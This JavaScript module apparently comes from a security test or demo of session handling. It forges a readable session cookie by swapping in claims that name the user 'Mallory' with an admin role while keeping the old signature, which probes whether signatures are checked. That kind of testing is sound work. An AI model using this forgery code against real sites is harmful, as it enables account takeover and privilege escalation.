/**
 * What any script on the page can do: put other claims into the readable cookie, under the old signature.
 */

/**
 * @param {import('./reading.js').Reading} reading
 * @returns {boolean} whether there was a cookie to forge
 */
export function forge({ session, inspection, read }) {
  const [header, , signature] = read?.value.split('.') ?? []
  if (!read || !session || signature === undefined) return false
  const { id, createdAt, accessedAt } = inspection.meta ?? {}
  // JSON is easier to forge than BSON, so dates and bytes stay out.
  const simple = Object.entries(session).filter(([, value]) => typeof value !== 'object' || Array.isArray(value))
  const claims = {
    ...Object.fromEntries(simple),
    user: { name: 'Mallory', roles: ['admin'] },
    _id: id,
    _creation_time: createdAt && createdAt.getTime() / 1000,
    _accessed_time: accessedAt && accessedAt.getTime() / 1000,
  }
  const bytes = new TextEncoder().encode(JSON.stringify(claims))
  const payload = btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '')
  // biome-ignore lint/suspicious/noDocumentCookie: this is what an attacker's script does, too.
  document.cookie = `${read.name}=${header}.${payload}.${signature}; Path=/; SameSite=Lax`
  return true
}
